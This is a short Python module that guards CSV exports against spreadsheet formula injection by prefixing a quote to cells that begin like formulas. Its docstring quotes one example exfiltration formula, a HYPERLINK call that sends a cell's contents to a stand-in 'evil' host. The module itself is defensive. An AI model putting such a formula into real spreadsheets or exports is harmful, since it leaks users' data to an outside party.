"""Cells that a spreadsheet would run: the rule every CSV (or XLSX) export must apply.

Imported records keep what the user wrote, `=HYPERLINK("http://evil/?"&A1)` included: it is
data, and the JSON exports (`GET /api/me/export`, `memadvisor export-analytics`) carry it as a
string that nothing runs. A CSV opened in Excel or LibreOffice would run it as a formula (CSV
injection), so any CSV export passes every cell through `spreadsheet_safe` (OWASP's advice).
"""

from __future__ import annotations

from typing import TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""What makes a spreadsheet read a cell as a formula (tab and line breaks: a cell starting one)."""

T = TypeVar("T")


def spreadsheet_safe(value: T) -> T | str:
    """The cell as text a spreadsheet shows but never runs: a leading `'` before a formula start.

    Numbers stay numbers (a negative amount is not a formula); only text is changed.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
